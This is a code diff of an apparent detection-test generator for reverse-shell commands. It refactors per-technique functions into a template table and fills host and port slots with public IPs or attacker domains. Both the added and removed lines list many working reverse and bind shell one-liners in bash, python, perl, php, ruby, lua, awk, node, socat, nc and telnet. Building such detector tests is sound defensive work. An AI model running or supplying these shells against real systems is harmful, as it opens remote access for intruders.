@@ -5,15 +5,115 @@ background, bash -c, a hostname instead of an IP, unusual ports).
 Techniques: busybox nc, ruby, awk, lua, telnet piped into a shell, mkfifo/mknod
 relays, bash /dev/tcp and /dev/udp, python sockets, plus perl, php, socat, nc/ncat -e,
 node and openssl relays, and bind shells. The right rule is CMD-TRACE-003.
+
+The shells are data: per technique, command templates whose ⟨SLOTS⟩ `fill` replaces:
+HOST (an IP, an attacker domain or a known-bad host), PORT, PORT2 (the next port),
+FIFO (a named pipe's path), FD (a file descriptor) and BIN (the interpreter's name).
 """
 
+import re
+
 from . import expect as E
+
+SHELLS = {
+    'busybox_nc': [
+        'busybox nc ⟨HOST⟩ ⟨PORT⟩ -e /bin/sh',
+        'busybox nc ⟨HOST⟩ ⟨PORT⟩ -e sh',
+        'busybox nc -lp ⟨PORT⟩ -e /bin/sh',
+        '/bin/busybox nc ⟨HOST⟩ ⟨PORT⟩ -e /bin/bash',
+    ],
+    'ruby_tcpsocket': [
+        'ruby -rsocket -e \'f=TCPSocket.open("⟨HOST⟩",⟨PORT⟩).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
+        'ruby -rsocket -e \'exit if fork;c=TCPSocket.new("⟨HOST⟩","⟨PORT⟩");loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,"r"){|io|c.print io.read}}\'',
+        'ruby -rsocket -e \'s=TCPSocket.new("⟨HOST⟩",⟨PORT⟩);while(cmd=s.gets);IO.popen(cmd,"r"){|io|s.print io.read};end\'',
+    ],
+    'awk_inet': [
+        '⟨BIN⟩ \'BEGIN {s = "/inet/tcp/0/⟨HOST⟩/⟨PORT⟩"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
+        '⟨BIN⟩ \'BEGIN{s="/inet/tcp/0/⟨HOST⟩/⟨PORT⟩";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}\'',
+    ],
+    'lua_socket': [
+        '⟨BIN⟩ -e "require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'⟨HOST⟩\',\'⟨PORT⟩\');os.execute(\'/bin/sh -i <&3 >&3 2>&3\');"',
+        '⟨BIN⟩ -e "local host, port = \'⟨HOST⟩\', ⟨PORT⟩ local socket = require(\'socket\') local tcp = socket.tcp() local io = require(\'io\') tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, \'r\') local s = f:read(\'*a\') f:close() tcp:send(s) if status == \'closed\' then break end end tcp:close()"',
+    ],
+    'telnet_pipe_sh': [
+        'telnet ⟨HOST⟩ ⟨PORT⟩ | /bin/sh | telnet ⟨HOST⟩ ⟨PORT2⟩',
+        'rm -f ⟨FIFO⟩; mknod ⟨FIFO⟩ p && telnet ⟨HOST⟩ ⟨PORT⟩ 0<⟨FIFO⟩ | /bin/bash 1>⟨FIFO⟩',
+        'telnet ⟨HOST⟩ ⟨PORT⟩ | bash | telnet ⟨HOST⟩ ⟨PORT2⟩',
+        'mkfifo ⟨FIFO⟩ && telnet ⟨HOST⟩ ⟨PORT⟩ 0<⟨FIFO⟩ | sh 1>⟨FIFO⟩',
+    ],
+    'mkfifo_mknod_relay': [
+        'rm ⟨FIFO⟩;mkfifo ⟨FIFO⟩;cat ⟨FIFO⟩|/bin/sh -i 2>&1|nc ⟨HOST⟩ ⟨PORT⟩ >⟨FIFO⟩',
+        'rm -f ⟨FIFO⟩; mknod ⟨FIFO⟩ p; /bin/sh 0<⟨FIFO⟩ | nc ⟨HOST⟩ ⟨PORT⟩ 1>⟨FIFO⟩',
+        'mkfifo ⟨FIFO⟩; nc ⟨HOST⟩ ⟨PORT⟩ < ⟨FIFO⟩ | /bin/bash > ⟨FIFO⟩ 2>&1; rm ⟨FIFO⟩',
+        'mkfifo ⟨FIFO⟩; /bin/sh -i < ⟨FIFO⟩ 2>&1 | openssl s_client -quiet -connect ⟨HOST⟩:⟨PORT⟩ > ⟨FIFO⟩; rm ⟨FIFO⟩',
+        'rm -f ⟨FIFO⟩;mkfifo ⟨FIFO⟩;cat ⟨FIFO⟩|sh -i 2>&1|ncat --ssl ⟨HOST⟩ ⟨PORT⟩ >⟨FIFO⟩',
+    ],
+    'bash_dev_tcp': [
+        'bash -i >& /dev/tcp/⟨HOST⟩/⟨PORT⟩ 0>&1',
+        '0<&⟨FD⟩;exec ⟨FD⟩<>/dev/tcp/⟨HOST⟩/⟨PORT⟩; sh <&⟨FD⟩ >&⟨FD⟩ 2>&⟨FD⟩',
+        'exec ⟨FD⟩<>/dev/tcp/⟨HOST⟩/⟨PORT⟩;cat <&⟨FD⟩ | while read line; do $line 2>&⟨FD⟩ >&⟨FD⟩; done',
+        'sh -i >& /dev/udp/⟨HOST⟩/⟨PORT⟩ 0>&1',
+        '/bin/bash -l > /dev/tcp/⟨HOST⟩/⟨PORT⟩ 0<&1 2>&1',
+        "bash -c 'exec bash -i &>/dev/tcp/⟨HOST⟩/⟨PORT⟩ <&1'",
+        "zsh -c 'zmodload zsh/net/tcp && ztcp ⟨HOST⟩ ⟨PORT⟩ && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+    ],
+    'python_socket': [
+        '⟨BIN⟩ -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("⟨HOST⟩",⟨PORT⟩));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("sh")\'',
+        '⟨BIN⟩ -c \'import os,pty,socket;s=socket.socket();s.connect(("⟨HOST⟩",⟨PORT⟩));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("/bin/bash")\'',
+        'export RHOST="⟨HOST⟩";export RPORT=⟨PORT⟩;⟨BIN⟩ -c \'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")\'',
+        '⟨BIN⟩ -c "import socket,subprocess;s=socket.create_connection((\'⟨HOST⟩\',⟨PORT⟩));subprocess.Popen([\'/bin/sh\',\'-i\'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"',
+    ],
+    'perl_socket': [
+        'perl -e \'use Socket;$i="⟨HOST⟩";$p=⟨PORT⟩;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("sh -i");};\'',
+        'perl -MIO -e \'$p=fork;exit,if($p);foreach my $key(keys %ENV){if($ENV{$key}=~/(.*)/){$ENV{$key}=$1;}}$c=new IO::Socket::INET(PeerAddr,"⟨HOST⟩:⟨PORT⟩");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){if($_=~ /(.*)/){system $1;}};\'',
+    ],
+    'php_fsockopen': [
+        'php -r \'$sock=fsockopen("⟨HOST⟩",⟨PORT⟩);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+        'php -r \'$sock=fsockopen("⟨HOST⟩",⟨PORT⟩);shell_exec("sh <&3 >&3 2>&3");\'',
+        'php -r \'$s=fsockopen("⟨HOST⟩",⟨PORT⟩);$proc=proc_open("sh", array(0=>$s, 1=>$s, 2=>$s),$pipes);\'',
+        'php -r \'$sock=fsockopen("⟨HOST⟩",⟨PORT⟩);popen("/bin/sh -i <&3 >&3 2>&3", "r");\'',
+    ],
+    'socat': [
+        "socat TCP:⟨HOST⟩:⟨PORT⟩ EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
+        'socat tcp-connect:⟨HOST⟩:⟨PORT⟩ exec:/bin/sh',
+        "socat exec:'sh -li',pty,stderr,setsid,sigint,sane tcp:⟨HOST⟩:⟨PORT⟩",
+        'socat TCP-LISTEN:⟨PORT⟩,reuseaddr,fork EXEC:/bin/bash',
+        'socat OPENSSL:⟨HOST⟩:⟨PORT⟩,verify=0 EXEC:/bin/sh',
+    ],
+    'nc_ncat_exec': [
+        'nc -e /bin/sh ⟨HOST⟩ ⟨PORT⟩',
+        'nc ⟨HOST⟩ ⟨PORT⟩ -e /bin/bash',
+        'ncat ⟨HOST⟩ ⟨PORT⟩ -e /bin/bash',
+        'nc -c bash ⟨HOST⟩ ⟨PORT⟩',
+        'ncat --udp ⟨HOST⟩ ⟨PORT⟩ -e /bin/sh',
+        'nc.traditional -e /bin/sh ⟨HOST⟩ ⟨PORT⟩',
+        'ncat -lvnp ⟨PORT⟩ -e /bin/bash',
+        'nc -lvp ⟨PORT⟩ -e /bin/sh',
+    ],
+    'node_net': [
+        'node -e "sh = require(\'child_process\').spawn(\'/bin/sh\');require(\'net\').connect(⟨PORT⟩, \'⟨HOST⟩\', function () { this.pipe(sh.stdin); sh.stdout.pipe(this); sh.stderr.pipe(this); })"',
+        'node -e "require(\'child_process\').exec(\'nc -e /bin/sh ⟨HOST⟩ ⟨PORT⟩\')"',
+        'node -e "(function(){var net=require(\'net\'),cp=require(\'child_process\'),sh=cp.spawn(\'/bin/sh\',[]);var client=new net.Socket();client.connect(⟨PORT⟩,\'⟨HOST⟩\',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();"',
+    ],
+}
+
+BINS = {"awk_inet": ["awk", "gawk"], "lua_socket": ["lua", "lua5.1", "lua5.4", "luajit"], "python_socket": ["python3", "python", "python2", "/usr/bin/python3"]}
+FDS = [196, 5, 3, 200, 7]
+SLOT = re.compile("⟨([A-Z0-9]+)⟩")
 
 
 def _addr(w):
     if w.chance(0.75):
         return w.public_ip(), w.port()
     return w.choice([w.attacker_domain(), w.known_bad()]), w.port()
+
+
+def fill(w, technique, template):
+    host, port = _addr(w)
+    values = {"HOST": host, "PORT": str(port), "PORT2": str(port + 1), "FD": str(w.choice(FDS)),
+              "FIFO": w.choice(["/tmp/f", "/tmp/p", "/tmp/.s", "/tmp/.x", f"/tmp/{w.label()}", "/var/tmp/.p", "/dev/shm/q"]),
+              "BIN": w.choice(BINS.get(technique, [""]))}
+    return SLOT.sub(lambda m: values[m.group(1)], template)
 
 
 def _wrap(w, cmd, quote_ok=True):
@@ -32,155 +132,14 @@ def _wrap(w, cmd, quote_ok=True):
     return cmd
 
 
-def busybox_nc(w, i):
-    h, p = _addr(w)
-    c = w.choice([f"busybox nc {h} {p} -e /bin/sh", f"busybox nc {h} {p} -e sh", f"busybox nc -lp {p} -e /bin/sh",
-                  f"/bin/busybox nc {h} {p} -e /bin/bash"])
-    return c
-
-
-def ruby(w, i):
-    h, p = _addr(w)
-    return w.choice([
-        f"ruby -rsocket -e 'f=TCPSocket.open(\"{h}\",{p}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
-        f"ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"{h}\",\"{p}\");loop{{c.gets.chomp!;(exit! if $_==\"exit\");IO.popen($_,\"r\"){{|io|c.print io.read}}}}'",
-        f"ruby -rsocket -e 's=TCPSocket.new(\"{h}\",{p});while(cmd=s.gets);IO.popen(cmd,\"r\"){{|io|s.print io.read}};end'",
-    ])
-
-
-def awk(w, i):
-    h, p = _addr(w)
-    a = w.choice(["awk", "gawk"])
-    return w.choice([
-        f"{a} 'BEGIN {{s = \"/inet/tcp/0/{h}/{p}\"; while(42) {{ do{{ printf \"shell>\" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != \"exit\") close(s); }}}}' /dev/null",
-        f"{a} 'BEGIN{{s=\"/inet/tcp/0/{h}/{p}\";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}}'",
-    ])
-
-
-def lua(w, i):
-    h, p = _addr(w)
-    lu = w.choice(["lua", "lua5.1", "lua5.4", "luajit"])
-    return w.choice([
-        f"{lu} -e \"require('socket');require('os');t=socket.tcp();t:connect('{h}','{p}');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
-        f"{lu} -e \"local host, port = '{h}', {p} local socket = require('socket') local tcp = socket.tcp() local io = require('io') tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, 'r') local s = f:read('*a') f:close() tcp:send(s) if status == 'closed' then break end end tcp:close()\"",
-    ])
-
-
-def telnet_pipe(w, i):
-    h, p = _addr(w)
-    p2 = p + 1
-    f = w.choice(["/tmp/p", "/tmp/.x", f"/tmp/{w.label()}", "/dev/shm/f"])
-    return w.choice([
-        f"telnet {h} {p} | /bin/sh | telnet {h} {p2}",
-        f"rm -f {f}; mknod {f} p && telnet {h} {p} 0<{f} | /bin/bash 1>{f}",
-        f"telnet {h} {p} | bash | telnet {h} {p2}",
-        f"mkfifo {f} && telnet {h} {p} 0<{f} | sh 1>{f}",
-    ])
-
-
-def fifo_relay(w, i):
-    h, p = _addr(w)
-    f = w.choice(["/tmp/f", "/tmp/.s", f"/tmp/{w.label()}", "/var/tmp/.p", "/dev/shm/q"])
-    return w.choice([
-        f"rm {f};mkfifo {f};cat {f}|/bin/sh -i 2>&1|nc {h} {p} >{f}",
-        f"rm -f {f}; mknod {f} p; /bin/sh 0<{f} | nc {h} {p} 1>{f}",
-        f"mkfifo {f}; nc {h} {p} < {f} | /bin/bash > {f} 2>&1; rm {f}",
-        f"mkfifo {f}; /bin/sh -i < {f} 2>&1 | openssl s_client -quiet -connect {h}:{p} > {f}; rm {f}",
-        f"rm -f {f};mkfifo {f};cat {f}|sh -i 2>&1|ncat --ssl {h} {p} >{f}",
-    ])
-
-
-def bash_dev_tcp(w, i):
-    h, p = _addr(w)
-    fd = w.choice([196, 5, 3, 200, 7])
-    return w.choice([
-        f"bash -i >& /dev/tcp/{h}/{p} 0>&1",
-        f"0<&{fd};exec {fd}<>/dev/tcp/{h}/{p}; sh <&{fd} >&{fd} 2>&{fd}",
-        f"exec {fd}<>/dev/tcp/{h}/{p};cat <&{fd} | while read line; do $line 2>&{fd} >&{fd}; done",
-        f"sh -i >& /dev/udp/{h}/{p} 0>&1",
-        f"/bin/bash -l > /dev/tcp/{h}/{p} 0<&1 2>&1",
-        f"bash -c 'exec bash -i &>/dev/tcp/{h}/{p} <&1'",
-        f"zsh -c 'zmodload zsh/net/tcp && ztcp {h} {p} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
-    ])
-
-
-def python_socket(w, i):
-    h, p = _addr(w)
-    py = w.choice(["python3", "python", "python2", "/usr/bin/python3"])
-    return w.choice([
-        f"{py} -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{h}\",{p}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")'",
-        f"{py} -c 'import os,pty,socket;s=socket.socket();s.connect((\"{h}\",{p}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/bash\")'",
-        f"export RHOST=\"{h}\";export RPORT={p};{py} -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")'",
-        f"{py} -c \"import socket,subprocess;s=socket.create_connection(('{h}',{p}));subprocess.Popen(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\"",
-    ])
-
-
-def perl(w, i):
-    h, p = _addr(w)
-    return w.choice([
-        f"perl -e 'use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"sh -i\");}};'",
-        f"perl -MIO -e '$p=fork;exit,if($p);foreach my $key(keys %ENV){{if($ENV{{$key}}=~/(.*)/){{$ENV{{$key}}=$1;}}}}$c=new IO::Socket::INET(PeerAddr,\"{h}:{p}\");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){{if($_=~ /(.*)/){{system $1;}}}};'",
-    ])
-
-
-def php(w, i):
-    h, p = _addr(w)
-    return w.choice([
-        f"php -r '$sock=fsockopen(\"{h}\",{p});exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
-        f"php -r '$sock=fsockopen(\"{h}\",{p});shell_exec(\"sh <&3 >&3 2>&3\");'",
-        f"php -r '$s=fsockopen(\"{h}\",{p});$proc=proc_open(\"sh\", array(0=>$s, 1=>$s, 2=>$s),$pipes);'",
-        f"php -r '$sock=fsockopen(\"{h}\",{p});popen(\"/bin/sh -i <&3 >&3 2>&3\", \"r\");'",
-    ])
-
-
-def socat(w, i):
-    h, p = _addr(w)
-    return w.choice([
-        f"socat TCP:{h}:{p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
-        f"socat tcp-connect:{h}:{p} exec:/bin/sh",
-        f"socat exec:'sh -li',pty,stderr,setsid,sigint,sane tcp:{h}:{p}",
-        f"socat TCP-LISTEN:{p},reuseaddr,fork EXEC:/bin/bash",
-        f"socat OPENSSL:{h}:{p},verify=0 EXEC:/bin/sh",
-    ])
-
-
-def nc_exec(w, i):
-    h, p = _addr(w)
-    return w.choice([f"nc -e /bin/sh {h} {p}", f"nc {h} {p} -e /bin/bash", f"ncat {h} {p} -e /bin/bash",
-                     f"nc -c bash {h} {p}", f"ncat --udp {h} {p} -e /bin/sh", f"nc.traditional -e /bin/sh {h} {p}",
-                     f"ncat -lvnp {p} -e /bin/bash", f"nc -lvp {p} -e /bin/sh"])
-
-
-def node(w, i):
-    h, p = _addr(w)
-    return w.choice([
-        f"node -e \"sh = require('child_process').spawn('/bin/sh');require('net').connect({p}, '{h}', function () {{ this.pipe(sh.stdin); sh.stdout.pipe(this); sh.stderr.pipe(this); }})\"",
-        f"node -e \"require('child_process').exec('nc -e /bin/sh {h} {p}')\"",
-        f"node -e \"(function(){{var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect({p},'{h}',function(){{client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);}});return /a/;}})();\"",
-    ])
-
-
-def _make(fn, quote_ok=True):
+def _make(technique):
     def make(w, i):
-        cmd = _wrap(w, fn(w, i), quote_ok=quote_ok)
+        cmd = fill(w, technique, w.choice(SHELLS[technique]))
+        cmd = _wrap(w, cmd, quote_ok=technique != "awk_inet")
         return {"steps": [cmd], "expect": E.REVSHELL, "variant": cmd.split()[0]}
     return make
 
 
-TECHNIQUES = [
-    ("busybox_nc", _make(busybox_nc)),
-    ("ruby_tcpsocket", _make(ruby)),
-    ("awk_inet", _make(awk, quote_ok=False)),
-    ("lua_socket", _make(lua)),
-    ("telnet_pipe_sh", _make(telnet_pipe)),
-    ("mkfifo_mknod_relay", _make(fifo_relay)),
-    ("bash_dev_tcp", _make(bash_dev_tcp)),
-    ("python_socket", _make(python_socket)),
-    ("perl_socket", _make(perl)),
-    ("php_fsockopen", _make(php)),
-    ("socat", _make(socat)),
-    ("nc_ncat_exec", _make(nc_exec)),
-    ("node_net", _make(node)),
-]
+TECHNIQUES = [(name, _make(name)) for name in SHELLS]
 FAMILY = "reverse_shells"
 PER_TECHNIQUE = 3
